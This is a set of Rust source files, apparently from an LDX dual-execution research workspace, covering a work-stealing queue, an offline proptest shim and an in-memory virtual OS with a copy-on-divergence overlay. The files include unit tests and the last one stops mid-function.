        shared: Shared<T>,
    }

    impl<T> Clone for Stealer<T> {
        fn clone(&self) -> Self {
            Stealer {
                shared: Arc::clone(&self.shared),
            }
        }
    }

    impl<T> Stealer<T> {
        /// Steals one task from the victim's front (FIFO).
        pub fn steal(&self) -> Steal<T> {
            match self
                .shared
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .pop_front()
            {
                Some(t) => Steal::Success(t),
                None => Steal::Empty,
            }
        }
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn injector_is_fifo() {
            let inj = Injector::new();
            inj.push(1);
            inj.push(2);
            assert_eq!(inj.steal().success(), Some(1));
            assert_eq!(inj.steal().success(), Some(2));
            assert!(inj.steal().is_empty());
        }

        #[test]
        fn worker_pops_lifo_stealer_takes_fifo() {
            let w = Worker::new_lifo();
            let s = w.stealer();
            w.push(1);
            w.push(2);
            w.push(3);
            assert_eq!(s.steal().success(), Some(1));
            assert_eq!(w.pop(), Some(3));
            assert_eq!(w.pop(), Some(2));
            assert_eq!(w.pop(), None);
        }

        #[test]
        fn stealing_races_are_safe() {
            let inj = std::sync::Arc::new(Injector::new());
            for i in 0..1000 {
                inj.push(i);
            }
            let mut handles = Vec::new();
            let total = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
            for _ in 0..4 {
                let inj = std::sync::Arc::clone(&inj);
                let total = std::sync::Arc::clone(&total);
                handles.push(std::thread::spawn(move || {
                    while inj.steal().success().is_some() {
                        total.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    }
                }));
            }
            for h in handles {
                h.join().unwrap();
            }
            assert_eq!(total.load(std::sync::atomic::Ordering::Relaxed), 1000);
        }
    }
}
