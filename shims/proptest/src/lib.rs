//! Offline shim for `proptest`: the `proptest!` macro, a `Strategy`
//! trait with `prop_map`, strategies for integer ranges, tuples and
//! `collection::vec`, and the `prop_assert*` macros.
//!
//! Each property runs for [`ProptestConfig::cases`] iterations with a
//! deterministic per-test RNG (seeded from the test's name), so failures
//! reproduce exactly. There is no shrinking: a failing case panics with
//! the assertion message directly.

use std::ops::Range;

/// Deterministic SplitMix64 stream used to drive sampling.
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// Seeds the stream from a test's name (stable across runs).
    pub fn for_test(name: &str) -> Self {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in name.bytes() {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        TestRng { state: h }
    }

    /// The next 64-bit word.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
}

/// Run configuration for a `proptest!` block.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of cases each property runs for.
    pub cases: u32,
    /// Accepted for source compatibility; unused (no shrinking here).
    pub max_shrink_iters: u32,
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig {
            cases: 64,
            max_shrink_iters: 0,
        }
    }
}

/// A generator of test values.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Draws one value.
    fn sample(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F: Fn(Self::Value) -> O>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
    {
        Map { inner: self, f }
    }
}

/// The strategy returned by [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn sample(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.sample(rng))
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn sample(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty strategy range");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = (rng.next_u64() as u128) % span;
                (self.start as i128 + v as i128) as $t
            }
        }
    )*};
}

impl_range_strategy!(i8, i16, i32, i64, u8, u16, u32, u64, usize);

macro_rules! impl_tuple_strategy {
    ($($name:ident),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            #[allow(non_snake_case)]
            fn sample(&self, rng: &mut TestRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.sample(rng),)+)
            }
        }
    };
}

impl_tuple_strategy!(A, B);
impl_tuple_strategy!(A, B, C);
impl_tuple_strategy!(A, B, C, D);

/// Collection strategies.
pub mod collection {
    use super::{Strategy, TestRng};
    use std::ops::Range;

    /// A strategy producing `Vec`s of `element` with a length drawn from
    /// `size`.
    pub fn vec<S: Strategy>(element: S, size: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, size }
    }

    /// The strategy returned by [`vec()`].
    pub struct VecStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn sample(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let span = (self.size.end - self.size.start).max(1) as u64;
            let n = self.size.start + (rng.next_u64() % span) as usize;
            (0..n).map(|_| self.element.sample(rng)).collect()
        }
    }
}

/// The common imports, mirroring `proptest::prelude`.
pub mod prelude {
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, proptest, ProptestConfig, Strategy,
    };
}

/// Asserts a condition inside a property (panics on failure).
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => { assert!($cond) };
    ($cond:expr, $($fmt:tt)*) => { assert!($cond, $($fmt)*) };
}

/// Asserts equality inside a property (panics on failure).
#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr) => { assert_eq!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_eq!($a, $b, $($fmt)*) };
}

/// Asserts inequality inside a property (panics on failure).
#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr) => { assert_ne!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_ne!($a, $b, $($fmt)*) };
}

/// Defines `#[test]` functions that run a body over sampled inputs.
///
/// Supports the subset of the original grammar the workspace uses: an
/// optional `#![proptest_config(expr)]` header followed by test
/// functions with `arg in strategy` parameters.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! { ($crate::ProptestConfig::default()) $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    ( ($cfg:expr) ) => {};
    ( ($cfg:expr)
      $(#[$meta:meta])*
      fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
      $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            let __config: $crate::ProptestConfig = $cfg;
            let mut __rng = $crate::TestRng::for_test(concat!(module_path!(), "::", stringify!($name)));
            for __case in 0..__config.cases {
                $(let $arg = $crate::Strategy::sample(&($strat), &mut __rng);)+
                $body
            }
        }
        $crate::__proptest_impl! { ($cfg) $($rest)* }
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 32, ..ProptestConfig::default() })]

        #[test]
        fn ranges_sample_in_bounds(x in 3u64..17) {
            prop_assert!((3..17).contains(&x));
        }

        #[test]
        fn tuples_and_vecs_compose(
            pair in (crate::collection::vec(0u64..4, 0..3), 0u64..8)
        ) {
            let (v, n) = pair;
            prop_assert!(v.len() < 3);
            prop_assert!(v.iter().all(|&e| e < 4));
            prop_assert!(n < 8);
        }

        #[test]
        fn prop_map_applies(y in (0i64..10).prop_map(|v| v * 2)) {
            prop_assert_eq!(y % 2, 0);
            prop_assert!((0..20).contains(&y));
        }
    }

    #[test]
    fn rng_is_deterministic_per_name() {
        let mut a = crate::TestRng::for_test("t");
        let mut b = crate::TestRng::for_test("t");
        assert_eq!(a.next_u64(), b.next_u64());
    }
}
