//! Thread-safe virtual OS handle.

use crate::config::VosConfig;
use crate::error::VosError;
use crate::fs::Node;
use crate::net::PeerState;
use crate::state::{SysArg, SysRet, VosState};
use ldx_lang::Syscall;
use parking_lot::Mutex;

/// A virtual world shared by all Lx threads of one execution.
///
/// All syscalls are serialized by an internal lock, matching the atomicity
/// granularity of real kernel syscalls; Lx-level races remain genuinely
/// nondeterministic across runs.
#[derive(Debug)]
pub struct Vos {
    state: Mutex<VosState>,
}

impl Vos {
    /// Builds the world described by `config`.
    pub fn new(config: &VosConfig) -> Self {
        Vos {
            state: Mutex::new(VosState::build(config)),
        }
    }

    /// Executes a syscall.
    ///
    /// # Errors
    ///
    /// See [`VosState::syscall`].
    pub fn syscall(&self, sys: Syscall, args: &[SysArg]) -> Result<SysRet, VosError> {
        self.state.lock().syscall(sys, args)
    }

    /// Runs `f` with shared access to the locked state (inspection).
    pub fn with_state<R>(&self, f: impl FnOnce(&VosState) -> R) -> R {
        f(&self.state.lock())
    }

    /// File contents at `path`, if present.
    pub fn file_contents(&self, path: &str) -> Option<String> {
        self.state.lock().file_contents(path)
    }

    /// Everything sent to peer `host`.
    pub fn sent_to(&self, host: &str) -> Vec<String> {
        self.state.lock().sent_to(host)
    }

    /// Clones the filesystem node at `path` (copy-on-divergence hook).
    pub fn clone_node(&self, path: &str) -> Option<Node> {
        self.state.lock().clone_node(path)
    }

    /// Snapshot of a peer's live state.
    pub fn peer_snapshot(&self, host: &str) -> Option<PeerState> {
        self.state.lock().peer_snapshot(host)
    }

    /// Total syscalls executed against this world.
    pub fn syscall_count(&self) -> u64 {
        self.state.lock().syscall_count
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn concurrent_syscalls_are_serialized() {
        let vos = Arc::new(Vos::new(&VosConfig::new()));
        let mut handles = Vec::new();
        for t in 0..4 {
            let vos = Arc::clone(&vos);
            handles.push(std::thread::spawn(move || {
                for k in 0..50 {
                    vos.syscall(
                        Syscall::Write,
                        &[SysArg::Int(1), SysArg::Str(format!("{t}:{k};"))],
                    )
                    .unwrap();
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        let out = vos.file_contents("/dev/stdout").unwrap();
        // All 200 writes landed, each atomically.
        assert_eq!(out.matches(';').count(), 200);
        assert_eq!(vos.syscall_count(), 200);
    }

    #[test]
    fn inspection_does_not_consume() {
        let vos = Vos::new(&VosConfig::new().file("/f", "abc"));
        assert_eq!(vos.file_contents("/f").unwrap(), "abc");
        assert_eq!(vos.file_contents("/f").unwrap(), "abc");
        assert!(vos.clone_node("/f").is_some());
        assert_eq!(
            vos.with_state(|s| s.clock()),
            VosConfig::default().clock_start
        );
    }
}
