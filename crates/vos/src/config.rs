//! Declarative description of an initial virtual world.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// How a remote host behaves when the program talks to it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum PeerBehavior {
    /// Echoes every `send` back into the `recv` stream.
    Echo,
    /// Plays back fixed lines on successive `recv`s, ignoring sends.
    Script(Vec<String>),
    /// Responds to exact request strings with mapped replies.
    Respond(BTreeMap<String, String>),
}

/// The initial state of a virtual world: files, directories, peers,
/// scripted clients, clock, and entropy.
///
/// A `VosConfig` is the *input* of an experiment: the master builds its
/// world from it, the slave's overlay falls back to it, and workloads ship
/// one per benchmark (paired with mutations of the interesting inputs).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct VosConfig {
    /// Files to create, as `(path, contents)`.
    pub files: Vec<(String, String)>,
    /// Directories to create (parents of `files` are created implicitly).
    pub dirs: Vec<String>,
    /// Remote hosts the program may `connect` to.
    pub peers: Vec<(String, PeerBehavior)>,
    /// Scripted inbound clients per port: each string is one client
    /// connection's full request stream, `accept`ed in order.
    pub listen: Vec<(i64, Vec<String>)>,
    /// Initial value of the virtual clock.
    pub clock_start: i64,
    /// Amount the clock advances per `time()` call.
    pub clock_step: i64,
    /// Seed of the deterministic entropy stream (`random()`).
    pub rng_seed: u64,
    /// The program's PID.
    pub pid: i64,
}

impl Default for VosConfig {
    fn default() -> Self {
        VosConfig {
            files: Vec::new(),
            dirs: Vec::new(),
            peers: Vec::new(),
            listen: Vec::new(),
            clock_start: 1_000_000,
            clock_step: 7,
            rng_seed: 0x5eed_1d00_u64,
            pid: 4242,
        }
    }
}

impl VosConfig {
    /// A fresh empty world.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a file (builder style).
    pub fn file(mut self, path: impl Into<String>, contents: impl Into<String>) -> Self {
        self.files.push((path.into(), contents.into()));
        self
    }

    /// Adds a directory.
    pub fn dir(mut self, path: impl Into<String>) -> Self {
        self.dirs.push(path.into());
        self
    }

    /// Adds a remote peer.
    pub fn peer(mut self, host: impl Into<String>, behavior: PeerBehavior) -> Self {
        self.peers.push((host.into(), behavior));
        self
    }

    /// Adds scripted clients on a port.
    pub fn listen(mut self, port: i64, requests: Vec<String>) -> Self {
        self.listen.push((port, requests));
        self
    }

    /// Sets the entropy seed.
    pub fn seed(mut self, seed: u64) -> Self {
        self.rng_seed = seed;
        self
    }

    /// Replaces the contents of `path`, or adds the file if absent.
    /// Used by input-mutation strategies.
    pub fn set_file(&mut self, path: &str, contents: impl Into<String>) {
        let contents = contents.into();
        for (p, c) in &mut self.files {
            if p == path {
                *c = contents;
                return;
            }
        }
        self.files.push((path.to_string(), contents));
    }

    /// The contents of `path` in the configuration, if present.
    pub fn file_contents(&self, path: &str) -> Option<&str> {
        self.files
            .iter()
            .find(|(p, _)| p == path)
            .map(|(_, c)| c.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_accumulates() {
        let cfg = VosConfig::new()
            .file("/etc/conf", "a=1")
            .dir("/logs")
            .peer("host", PeerBehavior::Echo)
            .listen(80, vec!["GET /".into()])
            .seed(7);
        assert_eq!(cfg.files.len(), 1);
        assert_eq!(cfg.dirs, vec!["/logs"]);
        assert_eq!(cfg.peers.len(), 1);
        assert_eq!(cfg.listen.len(), 1);
        assert_eq!(cfg.rng_seed, 7);
    }

    #[test]
    fn set_file_replaces_or_appends() {
        let mut cfg = VosConfig::new().file("/in", "original");
        cfg.set_file("/in", "mutated");
        assert_eq!(cfg.file_contents("/in"), Some("mutated"));
        cfg.set_file("/other", "x");
        assert_eq!(cfg.files.len(), 2);
        assert_eq!(cfg.file_contents("/missing"), None);
    }

    #[test]
    fn default_is_deterministic() {
        assert_eq!(VosConfig::default(), VosConfig::default());
    }
}
