//! The slave's copy-on-divergence world.
//!
//! When the dual executions diverge, the slave executes its misaligned
//! syscalls *independently* — but it must not interfere with the master's
//! world, and it should observe the pre-divergence state (which lives in
//! the master, because the slave skipped its aligned outputs). The paper
//! (§7) solves this with resource tainting and cloning: "When a tainted
//! resource is accessed by the other execution, LDX will create a copy of
//! the related resource(s) so that the master and the slave operate on
//! their own copies, without causing interference."
//!
//! [`SlaveVos`] implements that: it owns a private [`VosState`] built from
//! the same configuration, and on the *first decoupled access* to a path or
//! peer it refreshes that resource from the master's live world. All
//! subsequent accesses stay private.

use crate::config::VosConfig;
use crate::error::VosError;
use crate::fs::normalize_path;
use crate::state::{SysArg, SysRet, VosState};
use crate::world::Vos;
use ldx_lang::Syscall;
use parking_lot::Mutex;
use std::collections::HashSet;
use std::sync::Arc;

/// The slave execution's private overlay world.
#[derive(Debug)]
pub struct SlaveVos {
    master: Arc<Vos>,
    own: Mutex<OverlayState>,
}

#[derive(Debug)]
struct OverlayState {
    state: VosState,
    /// Paths already cloned from (or reconciled with) the master.
    copied_paths: HashSet<String>,
    /// Peers already cloned.
    copied_peers: HashSet<String>,
}

impl SlaveVos {
    /// First descriptor the overlay hands out: a high range disjoint from
    /// master-issued descriptors, so a decoupled `open` can never collide
    /// with a master descriptor the slave program still holds.
    pub const FD_START: i64 = 1_000_003;

    /// Creates the overlay over `master`, with `config` as the fallback
    /// initial world (the same configuration the master was built from,
    /// possibly with mutated inputs).
    pub fn new(master: Arc<Vos>, config: &VosConfig) -> Self {
        SlaveVos {
            master,
            own: Mutex::new(OverlayState {
                state: VosState::build_with_fd_start(config, Self::FD_START),
                copied_paths: HashSet::new(),
                copied_peers: HashSet::new(),
            }),
        }
    }

    /// Executes a *decoupled* syscall against the private world, cloning
    /// the touched resource from the master on first access.
    ///
    /// # Errors
    ///
    /// See [`VosState::syscall`].
    pub fn syscall(&self, sys: Syscall, args: &[SysArg]) -> Result<SysRet, VosError> {
        let mut own = self.own.lock();
        match sys {
            Syscall::Open | Syscall::Stat | Syscall::Unlink | Syscall::Readdir | Syscall::Mkdir => {
                if let Some(SysArg::Str(path)) = args.first() {
                    let path = path.clone();
                    self.ensure_path(&mut own, &path);
                }
            }
            Syscall::Rename => {
                if let (Some(SysArg::Str(from)), Some(SysArg::Str(to))) =
                    (args.first(), args.get(1))
                {
                    let (from, to) = (from.clone(), to.clone());
                    self.ensure_path(&mut own, &from);
                    self.ensure_path(&mut own, &to);
                }
            }
            Syscall::Connect => {
                if let Some(SysArg::Str(host)) = args.first() {
                    let host = host.clone();
                    self.ensure_peer(&mut own, &host);
                }
            }
            // Reads/writes/sends go through descriptors the overlay itself
            // issued, so the backing resource was already ensured at
            // open/connect time. Time/random/pid/accept use private state.
            _ => {}
        }
        own.state.syscall(sys, args)
    }

    /// Marks `path` as diverged *without* refreshing it from the master —
    /// used when the divergence happens on the slave side first (e.g. the
    /// slave creates a file the master never will).
    pub fn pin_path(&self, path: &str) {
        let mut own = self.own.lock();
        let key = normalize_path(path).join("/");
        own.copied_paths.insert(key);
    }

    /// Runs `f` with shared access to the private state (inspection).
    pub fn with_state<R>(&self, f: impl FnOnce(&VosState) -> R) -> R {
        f(&self.own.lock().state)
    }

    /// Private-world file contents.
    pub fn file_contents(&self, path: &str) -> Option<String> {
        self.own.lock().state.file_contents(path)
    }

    fn ensure_path(&self, own: &mut OverlayState, path: &str) {
        let key = normalize_path(path).join("/");
        if !own.copied_paths.insert(key) {
            return;
        }
        match self.master.clone_node(path) {
            Some(node) => {
                own.state.install_node(path, node);
            }
            None => {
                // The master does not have it (any more): tombstone the
                // configured fallback so the worlds agree about absence.
                own.state.remove_node(path);
            }
        }
    }

    fn ensure_peer(&self, own: &mut OverlayState, host: &str) {
        if !own.copied_peers.insert(host.to_string()) {
            return;
        }
        if let Some(peer) = self.master.peer_snapshot(host) {
            own.state.install_peer(host, peer);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::PeerBehavior;

    fn sa(v: &str) -> SysArg {
        SysArg::Str(v.into())
    }
    fn ia(v: i64) -> SysArg {
        SysArg::Int(v)
    }

    fn setup() -> (Arc<Vos>, SlaveVos) {
        let cfg = VosConfig::new()
            .file("/shared.txt", "from-config")
            .peer("host", PeerBehavior::Script(vec!["r1".into(), "r2".into()]));
        let master = Arc::new(Vos::new(&cfg));
        let slave = SlaveVos::new(Arc::clone(&master), &cfg);
        (master, slave)
    }

    #[test]
    fn first_access_sees_masters_current_content() {
        let (master, slave) = setup();
        // The master wrote to the file before the divergence.
        let SysRet::Int(fd) = master
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(1)])
            .unwrap()
        else {
            panic!()
        };
        master
            .syscall(Syscall::Write, &[ia(fd), sa("master-write")])
            .unwrap();
        // The slave's decoupled read sees the master's content, not the
        // stale configured one.
        let SysRet::Int(sfd) = slave
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(0)])
            .unwrap()
        else {
            panic!()
        };
        let SysRet::Str(data) = slave.syscall(Syscall::Read, &[ia(sfd), ia(64)]).unwrap() else {
            panic!()
        };
        assert_eq!(data, "master-write");
    }

    #[test]
    fn slave_writes_never_reach_master() {
        let (master, slave) = setup();
        let SysRet::Int(fd) = slave
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(1)])
            .unwrap()
        else {
            panic!()
        };
        slave
            .syscall(Syscall::Write, &[ia(fd), sa("slave-only")])
            .unwrap();
        assert_eq!(slave.file_contents("/shared.txt").unwrap(), "slave-only");
        assert_eq!(master.file_contents("/shared.txt").unwrap(), "from-config");
    }

    #[test]
    fn clone_happens_once() {
        let (master, slave) = setup();
        // First access clones.
        slave
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(0)])
            .unwrap();
        // Master changes afterwards...
        let SysRet::Int(fd) = master
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(1)])
            .unwrap()
        else {
            panic!()
        };
        master
            .syscall(Syscall::Write, &[ia(fd), sa("late")])
            .unwrap();
        // ...but the slave's copy is already pinned.
        assert_eq!(slave.file_contents("/shared.txt").unwrap(), "from-config");
    }

    #[test]
    fn master_deletion_tombstones_slave_fallback() {
        let (master, slave) = setup();
        master
            .syscall(Syscall::Unlink, &[sa("/shared.txt")])
            .unwrap();
        assert_eq!(
            slave
                .syscall(Syscall::Open, &[sa("/shared.txt"), ia(0)])
                .unwrap(),
            SysRet::Int(-1),
            "slave must agree the file is gone"
        );
    }

    #[test]
    fn pinned_paths_are_not_refreshed() {
        let (master, slave) = setup();
        slave.pin_path("/shared.txt");
        let SysRet::Int(fd) = master
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(1)])
            .unwrap()
        else {
            panic!()
        };
        master
            .syscall(Syscall::Write, &[ia(fd), sa("master-change")])
            .unwrap();
        let SysRet::Int(sfd) = slave
            .syscall(Syscall::Open, &[sa("/shared.txt"), ia(0)])
            .unwrap()
        else {
            panic!()
        };
        let SysRet::Str(data) = slave.syscall(Syscall::Read, &[ia(sfd), ia(64)]).unwrap() else {
            panic!()
        };
        assert_eq!(data, "from-config", "pinned path keeps slave's own view");
    }

    #[test]
    fn peer_state_cloned_from_master_position() {
        let (master, slave) = setup();
        // Master consumed the first scripted line.
        let SysRet::Int(ms) = master.syscall(Syscall::Connect, &[sa("host")]).unwrap() else {
            panic!()
        };
        master.syscall(Syscall::Recv, &[ia(ms), ia(16)]).unwrap();
        // Slave connects decoupled: it continues from the master's script
        // position (r2), not from the beginning.
        let SysRet::Int(ss) = slave.syscall(Syscall::Connect, &[sa("host")]).unwrap() else {
            panic!()
        };
        let SysRet::Str(got) = slave.syscall(Syscall::Recv, &[ia(ss), ia(16)]).unwrap() else {
            panic!()
        };
        assert_eq!(got, "r2");
        // And the slave's sends do not reach the master's transcript.
        slave.syscall(Syscall::Send, &[ia(ss), sa("x")]).unwrap();
        assert!(master.sent_to("host").is_empty());
    }
}
