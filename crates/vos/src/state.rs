//! The mutable state of a virtual world and its syscall operations.

use crate::config::VosConfig;
use crate::error::VosError;
use crate::fs::{Fs, Node};
use crate::net::{Net, PeerState};
use ldx_lang::Syscall;

/// A syscall argument as seen by the virtual OS.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SysArg {
    /// An integer argument (fd, size, flags, port…).
    Int(i64),
    /// A string argument (path, data, host…).
    Str(String),
}

impl SysArg {
    fn as_int(&self, syscall: &'static str) -> Result<i64, VosError> {
        match self {
            SysArg::Int(v) => Ok(*v),
            SysArg::Str(s) => Err(VosError::BadArgument {
                syscall,
                detail: format!("expected integer, got string {s:?}"),
            }),
        }
    }

    fn as_str(&self, syscall: &'static str) -> Result<&str, VosError> {
        match self {
            SysArg::Str(s) => Ok(s),
            SysArg::Int(v) => Err(VosError::BadArgument {
                syscall,
                detail: format!("expected string, got integer {v}"),
            }),
        }
    }
}

/// A syscall result.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SysRet {
    /// An integer result (`-1` conventionally signals failure).
    Int(i64),
    /// A string result (`""` conventionally signals end-of-stream).
    Str(String),
}

/// One open file descriptor.
#[derive(Debug, Clone, PartialEq, Eq)]
enum FdEntry {
    File {
        path: String,
        pos: usize,
        writable: bool,
    },
    Peer {
        host: String,
    },
    Client {
        index: usize,
    },
    Closed,
}

/// The complete state of one virtual world.
///
/// Usually owned by a [`crate::Vos`] (thread-safe wrapper); exposed so the
/// slave overlay can hold its own private copy.
#[derive(Debug, Clone)]
pub struct VosState {
    fs: Fs,
    net: Net,
    fds: Vec<FdEntry>,
    /// First descriptor number this world hands out (3 by default; the
    /// slave overlay uses a disjoint high range so its descriptors never
    /// collide with master-issued ones the program still holds).
    fd_start: i64,
    clock: i64,
    clock_step: i64,
    rng: u64,
    pid: i64,
    /// Total syscalls executed against this world (for statistics).
    pub syscall_count: u64,
}

impl VosState {
    /// Builds the initial world described by `config`.
    pub fn build(config: &VosConfig) -> Self {
        Self::build_with_fd_start(config, 3)
    }

    /// Like [`VosState::build`], with a custom first descriptor number.
    pub fn build_with_fd_start(config: &VosConfig, fd_start: i64) -> Self {
        let mut fs = Fs::new();
        for dir in &config.dirs {
            fs.mkdir(dir);
        }
        for (path, contents) in &config.files {
            fs.insert(path, Node::File(contents.clone()));
        }
        let mut net = Net::default();
        for (host, behavior) in &config.peers {
            net.peers
                .insert(host.clone(), PeerState::new(behavior.clone()));
        }
        for (port, requests) in &config.listen {
            net.backlog.insert(*port, requests.clone());
        }
        VosState {
            fs,
            net,
            fds: Vec::new(),
            fd_start: fd_start.max(3),
            clock: config.clock_start,
            clock_step: config.clock_step,
            rng: config.rng_seed | 1,
            pid: config.pid,
            syscall_count: 0,
        }
    }

    fn alloc_fd(&mut self, entry: FdEntry) -> i64 {
        // Reuse closed slots to keep descriptor numbers small, like Unix.
        for (i, slot) in self.fds.iter_mut().enumerate() {
            if *slot == FdEntry::Closed {
                *slot = entry;
                return i as i64 + self.fd_start;
            }
        }
        self.fds.push(entry);
        self.fds.len() as i64 + self.fd_start - 1
    }

    fn fd_entry(&mut self, fd: i64) -> Option<&mut FdEntry> {
        let idx = usize::try_from(fd - self.fd_start).ok()?;
        match self.fds.get_mut(idx) {
            Some(e) if *e != FdEntry::Closed => Some(e),
            _ => None,
        }
    }

    /// Executes a syscall against this world.
    ///
    /// Descriptors 0–2 behave like stdio: writes succeed (content is
    /// captured in the `/dev/std{out,err}` pseudo-files), reads return `""`.
    ///
    /// # Errors
    ///
    /// Returns [`VosError`] only on argument-type misuse or when asked to
    /// run a syscall the virtual OS does not own (`spawn`, `join`, `lock`,
    /// `unlock`, `exit`, `setjmp`, `longjmp` — those belong to the
    /// runtime).
    pub fn syscall(&mut self, sys: Syscall, args: &[SysArg]) -> Result<SysRet, VosError> {
        self.syscall_count += 1;
        match sys {
            Syscall::Open => {
                let path = args[0].as_str("open")?.to_string();
                let flags = args[1].as_int("open")?;
                match flags {
                    0 => {
                        // Read-only: file must exist.
                        match self.fs.get(&path) {
                            Some(Node::File(_)) => Ok(SysRet::Int(self.alloc_fd(FdEntry::File {
                                path,
                                pos: 0,
                                writable: false,
                            }))),
                            _ => Ok(SysRet::Int(-1)),
                        }
                    }
                    1 | 2 => {
                        // Write (truncate) or append: create if missing.
                        if matches!(self.fs.get(&path), Some(Node::Dir(_))) {
                            return Ok(SysRet::Int(-1));
                        }
                        let append = flags == 2;
                        if (!append || self.fs.get(&path).is_none())
                            && !self.fs.insert(&path, Node::File(String::new()))
                        {
                            return Ok(SysRet::Int(-1));
                        }
                        let pos = self
                            .fs
                            .get(&path)
                            .and_then(Node::as_file)
                            .map(|d| d.chars().count())
                            .unwrap_or(0);
                        Ok(SysRet::Int(self.alloc_fd(FdEntry::File {
                            path,
                            pos,
                            writable: true,
                        })))
                    }
                    _ => Ok(SysRet::Int(-1)),
                }
            }
            Syscall::Read => {
                let fd = args[0].as_int("read")?;
                let n = args[1].as_int("read")?.max(0) as usize;
                if (0..=2).contains(&fd) {
                    return Ok(SysRet::Str(String::new()));
                }
                let Some(entry) = self.fd_entry(fd) else {
                    return Ok(SysRet::Str(String::new()));
                };
                match entry {
                    FdEntry::File { path, pos, .. } => {
                        let path = path.clone();
                        let start = *pos;
                        let data = match self.fs.get(&path) {
                            Some(Node::File(data)) => data.clone(),
                            _ => String::new(),
                        };
                        let chunk = read_chars(&data, start, n);
                        let advanced = chunk.chars().count();
                        if let Some(FdEntry::File { pos, .. }) = self.fd_entry(fd) {
                            *pos = start + advanced;
                        }
                        Ok(SysRet::Str(chunk))
                    }
                    FdEntry::Peer { host } => {
                        let host = host.clone();
                        let out = self
                            .net
                            .peers
                            .get_mut(&host)
                            .map(|p| p.on_recv(n))
                            .unwrap_or_default();
                        Ok(SysRet::Str(out))
                    }
                    FdEntry::Client { index } => {
                        let index = *index;
                        let conn = &mut self.net.clients[index];
                        let chunk = take_chars(&mut conn.pending, n);
                        Ok(SysRet::Str(chunk))
                    }
                    FdEntry::Closed => Ok(SysRet::Str(String::new())),
                }
            }
            Syscall::Write => {
                let fd = args[0].as_int("write")?;
                let data = args[1].as_str("write")?.to_string();
                if (0..=2).contains(&fd) {
                    let path = if fd == 2 {
                        "/dev/stderr"
                    } else {
                        "/dev/stdout"
                    };
                    self.append_file(path, &data);
                    return Ok(SysRet::Int(data.chars().count() as i64));
                }
                let Some(entry) = self.fd_entry(fd) else {
                    return Ok(SysRet::Int(-1));
                };
                match entry {
                    FdEntry::File { path, writable, .. } => {
                        if !*writable {
                            return Ok(SysRet::Int(-1));
                        }
                        let path = path.clone();
                        self.append_file(&path, &data);
                        Ok(SysRet::Int(data.chars().count() as i64))
                    }
                    FdEntry::Peer { host } => {
                        let host = host.clone();
                        if let Some(p) = self.net.peers.get_mut(&host) {
                            p.on_send(&data);
                            Ok(SysRet::Int(data.chars().count() as i64))
                        } else {
                            Ok(SysRet::Int(-1))
                        }
                    }
